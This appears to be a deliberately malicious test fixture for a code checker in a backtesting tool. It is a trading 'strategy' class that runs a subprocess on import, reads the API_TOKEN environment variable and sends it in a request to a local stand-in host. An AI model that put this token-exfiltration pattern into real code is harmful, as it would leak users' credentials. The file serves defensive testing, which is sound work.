"""Wrong on purpose: the code check refuses this file, and nothing of it is ever executed."""

import os
import subprocess

from backtesting import Strategy

subprocess.run(["touch", "EXECUTED"], check=False)


class DataCollector(Strategy):
    def init(self):
        self.secret = os.environ.get("API_TOKEN")

    def next(self):
        __import__("urllib.request").request.urlopen("http://127.0.0.1/?" + str(self.secret))
